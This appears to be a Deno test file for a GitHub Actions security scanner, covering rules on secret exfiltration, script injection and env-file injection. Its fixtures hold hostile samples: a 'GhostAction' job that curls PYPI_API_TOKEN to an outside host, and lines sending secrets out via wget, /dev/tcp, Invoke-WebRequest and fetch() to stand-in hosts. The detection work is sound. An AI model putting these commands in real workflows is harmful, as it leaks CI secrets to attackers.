import assert from "node:assert/strict";
import { realdata } from "../_realdata.ts";
import { evaluatePosture } from "../../rules/posture.ts";
import { postureFacts } from "../../src/github/posture_facts.ts";
import type { RepoPosture } from "../../src/observations/repo.ts";
import { readWorkflowText } from "../../src/workflows/read.ts";
import { ProjectSchema } from "../../src/config.ts";
import { judge, only } from "./_workflow_fixtures.ts";

const GHOST_JOB = `  send-secrets:
    runs-on: ubuntu-latest
    steps:
      - name: Build Project Assets
        env:
          PYPI_API_TOKEN: \${{ secrets.PYPI_API_TOKEN }}
        run: |
          curl -s -X POST -d "PYPI_API_TOKEN=$PYPI_API_TOKEN" \\
            https://bold-dhawan.45-139-104-115.plesk.page > /dev/null || true
`;

Deno.test("GhostAction: high as its own push workflow, critical appended to release.yml", async () => {
  const own = judge(
    `name: Github Actions Security\non:\n  workflow_dispatch:\n  push:\njobs:\n${GHOST_JOB}`,
  );
  const exfil = own.filter((f) => f.rule === "workflows/secret-exfiltration");
  assert.equal(exfil.length, 1);
  assert.equal(exfil[0].severity, "high");
  assert.match(exfil[0].message, /bold-dhawan\.45-139-104-115\.plesk\.page/);
  assert.match(exfil[0].message, /PYPI_API_TOKEN/);

  // The real, hardened poetry release.yml (permissions: {}) with the same job appended.
  const release = await Deno.readTextFile(realdata("workflows/python-poetry_poetry__release.yaml"));
  assert.deepEqual(judge(release), []);
  const appended = judge(
    `${release.trimEnd()}\n\n${GHOST_JOB}`,
    {},
    ".github/workflows/release.yml",
  );
  const hit = appended.find((f) => f.rule === "workflows/secret-exfiltration");
  assert.equal(hit?.severity, "critical");
  assert.match(hit?.message ?? "", /release workflow/);
});

Deno.test("secret-exfiltration: network commands and hosts; known services are not outside", () => {
  const fire = (run: string, env = "") =>
    only(
      "secret-exfiltration",
      `on: push\npermissions: {}\njobs:\n  t:\n    runs-on: x\n    steps:\n      - ${env}run: ${
        JSON.stringify(run)
      }\n`,
    ).length;
  const env = "env:\n          T: ${{ secrets.T }}\n        ";
  assert.equal(fire("wget --post-data t=$T http://198.51.100.7/c", env), 1);
  assert.equal(fire("echo $T > /dev/tcp/203.0.113.9/4444", env), 1);
  assert.equal(fire("Invoke-WebRequest -Uri https://evil.example.org -Body $env:T", env), 1);
  assert.equal(fire("curl https://x.example/?t=${{ secrets.NPM_TOKEN }}"), 1);
  // Clean: GitHub's API, the token being GITHUB_TOKEN only, no network command, no secret.
  assert.equal(fire('curl -H "Authorization: Bearer $T" https://api.github.com/x', env), 0);
  assert.equal(fire("curl https://x.example/?t=${{ secrets.GITHUB_TOKEN }}"), 0);
  assert.equal(fire("echo $T | ./deploy https://x.example", env), 0);
  assert.equal(fire("curl https://x.example/install.sh | sh"), 0);
  assert.equal(fire("curl -d ok https://hooks.slack.com/services/${{ secrets.SLACK }}"), 0);
  assert.equal(fire("curl -d t=$T https://discord.com/api/webhooks/1/x", env), 1);
  // fetch() in github-script.
  const script = only(
    "secret-exfiltration",
    `on: push
permissions: {}
jobs:
  t:
    runs-on: x
    steps:
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        env:
          K: \${{ secrets.DEPLOY_KEY }}
        with:
          script: |
            await fetch("https://collector.example.com", { method: "POST", body: process.env.K });
`,
  );
  assert.equal(script.length, 1);
});

Deno.test("overprovisioned-secrets and secrets-inherit", () => {
  const all =
    `on: push\npermissions: {}\njobs:\n  t:\n    runs-on: x\n    steps:\n      - env:\n          ALL: \${{ toJSON(secrets) }}\n        run: ./x\n`;
  assert.equal(only("overprovisioned-secrets", all).length, 1);
  assert.equal(
    only("overprovisioned-secrets", all.replace("toJSON(secrets)", "secrets[matrix.k]")).length,
    1,
  );
  assert.equal(
    only("overprovisioned-secrets", all.replace("toJSON(secrets)", "secrets.ONE")).length,
    0,
  );
  // toJSON(secrets) with a network command is exfiltration even without a literal host.
  assert.equal(only("secret-exfiltration", all.replace("./x", 'curl -d "$ALL" $URL')).length, 1);

  const inherit = (uses: string) =>
    `on: push\npermissions: {}\njobs:\n  r:\n    uses: ${uses}\n    secrets: inherit\n`;
  const sha = "0123456789abcdef0123456789abcdef01234567";
  assert.equal(
    only("secrets-inherit", inherit(`other/wf/.github/workflows/x.yml@${sha}`)).length,
    1,
  );
  assert.equal(only("secrets-inherit", inherit("./.github/workflows/x.yml")).length, 0);
  // The repository's own organisation is known when the sweep passes the repository.
  assert.equal(
    only("secrets-inherit", inherit(`acme/wf/.github/workflows/x.yml@${sha}`), {
      repository: "acme/app",
    })
      .length,
    0,
  );
});

Deno.test("secrets-outside-environment: release jobs only", () => {
  const text = (env: string, on = "release") =>
    `on: ${on}\npermissions: {}\njobs:\n  t:\n    runs-on: x\n${env}    steps:\n      - env:\n          X: \${{ secrets.SIGNING_KEY }}\n        run: ./sign\n`;
  assert.equal(only("secrets-outside-environment", text("")).length, 1);
  assert.equal(only("secrets-outside-environment", text("    environment: release\n")).length, 0);
  assert.equal(only("secrets-outside-environment", text("", "push")).length, 0);
});

Deno.test("script-injection in every sink: env, matrix, composite inputs, code inputs", () => {
  const job = (steps: string, extra = "") =>
    `on: pull_request\npermissions: {}\njobs:\n  t:\n    runs-on: x\n${extra}    steps:\n${steps}`;
  const envIndirect = job(
    `      - run: echo "\${{ env.TITLE }}"\n`,
    `    env:\n      TITLE: \${{ github.event.pull_request.title }}\n`,
  );
  assert.equal(only("script-injection", envIndirect).length, 1);
  assert.equal(only("script-injection", envIndirect.replace("env.TITLE", "env.OTHER")).length, 0);
  const matrix = job(
    `      - run: make \${{ matrix.t }}\n`,
    `    strategy:\n      matrix:\n        t: \${{ fromJSON(github.event.pull_request.body) }}\n`,
  );
  assert.equal(only("script-injection", matrix).length, 1);
  const staticMatrix = job(
    `      - run: make \${{ matrix.t }}\n`,
    `    strategy:\n      matrix:\n        t: [a, b]\n`,
  );
  assert.equal(only("script-injection", staticMatrix).length, 0);
  const code = job(
    `      - uses: azure/cli@089eac9d8cc39f5d003e94f8b65efc51076c9cbd\n        with:\n          inlineScript: echo \${{ github.head_ref }}\n`,
  );
  assert.equal(only("script-injection", code).length, 1);
  // An input that is not evaluated (a label) is not a sink.
  const label = job(
    `      - uses: actions-ecosystem/action-add-labels@bd52874380e3909a1ac983768df6976535ece7f8\n        with:\n          labels: \${{ github.head_ref }}\n`,
  );
  assert.equal(only("script-injection", label).length, 0);
  // Index notation is the same context.
  assert.equal(
    only(
      "script-injection",
      job(`      - run: echo "\${{ github['event']['pull_request']['title'] }}"\n`),
    ).length,
    1,
  );
  assert.equal(
    only(
      "script-injection",
      job(`      - run: echo "\${{ github['event']['issue']['number'] }}"\n`),
    ).length,
    0,
  );
  // Booleans derived from untrusted fields are not text.
  assert.equal(
    only(
      "script-injection",
      job(`      - run: echo \${{ contains(github.event.pull_request.title, 'x') }}\n`),
    ).length,
    0,
  );

  const composite = (run: string) =>
    `name: a\ninputs:\n  who: {}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${run}\n`;
  const hit = only("script-injection", composite('echo "${{ inputs.who }}"'));
  assert.equal(hit.length, 1);
  assert.equal(hit[0].severity, "high"); // one step removed from the attacker
  assert.equal(only("script-injection", composite('echo "$WHO"')).length, 0);
});

Deno.test("env-file-injection and unsecure-commands", () => {
  const text = (on: string, env: string, run: string) =>
    `on: ${on}\npermissions: {}\njobs:\n  t:\n    runs-on: x\n    steps:\n      - ${env}run: ${
      JSON.stringify(run)
    }\n`;
  const tainted = "env:\n          B: ${{ github.event.comment.body }}\n        ";
  assert.equal(
    only("env-file-injection", text("issue_comment", tainted, 'echo "N=$B" >> "$GITHUB_ENV"'))
      .length,
    1,
  );
  assert.equal(
    only("env-file-injection", text("pull_request", tainted, 'echo "r=$B" >> $GITHUB_OUTPUT'))
      .length,
    1,
  );
  assert.equal(
    only("env-file-injection", text("workflow_run", "", "cat a/p.txt | tee -a $GITHUB_PATH"))
      .length,
    0,
  );
  assert.equal(
    only("env-file-injection", text("workflow_run", "", 'echo "$(cat a/p.txt)" >> $GITHUB_PATH'))
      .length,
    1,
  );
  // Clean: computed values on push, constants anywhere, the variable not written.
  assert.equal(
    only("env-file-injection", text("push", "", 'echo "V=$(cat VERSION)" >> $GITHUB_ENV')).length,
    0,
  );
  assert.equal(
    only("env-file-injection", text("issue_comment", "", 'echo "V=1" >> $GITHUB_ENV')).length,
    0,
  );
  assert.equal(only("env-file-injection", text("issue_comment", tainted, 'echo "$B"')).length, 0);

  const unsecure = (v: string) =>
    `on: push\npermissions: {}\njobs:\n  t:\n    runs-on: x\n    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: ${v}\n    steps:\n      - run: echo\n`;
  assert.equal(only("unsecure-commands", unsecure("true")).length, 1);
  assert.equal(only("unsecure-commands", unsecure("false")).length, 0);
});

Deno.test("the repo sweep judges the same rules on the parsed files it observed", () => {
  const text = `on: push\npermissions: {}\njobs:\n${GHOST_JOB}`;
  const project = ProjectSchema.parse({ name: "r", github: "o/r" });
  const data: RepoPosture = {
    repository: "o/r",
    defaultBranch: "main",
    workflows: [{ path: ".github/workflows/x.yml", sha: "a", size: text.length }],
    workflowFiles: [readWorkflowText(".github/workflows/x.yml", text, { sha: "a" })],
  };
  const facts = postureFacts(data);
  const findings = evaluatePosture({ data, facts, project, unobservable: [] });
  const hit = findings.find((f) => f.rule === "workflows/secret-exfiltration");
  assert.equal(hit?.scope, "repo:workflows");
  assert.equal(hit?.severity, "high");
  // Not observed: nothing is judged (and nothing resolved).
  const blind = evaluatePosture({
    data,
    facts,
    project,
    unobservable: [{ scope: "repo:workflows", reason: "403" }],
  });
  assert.equal(blind.some((f) => f.rule.startsWith("workflows/")), false);
});
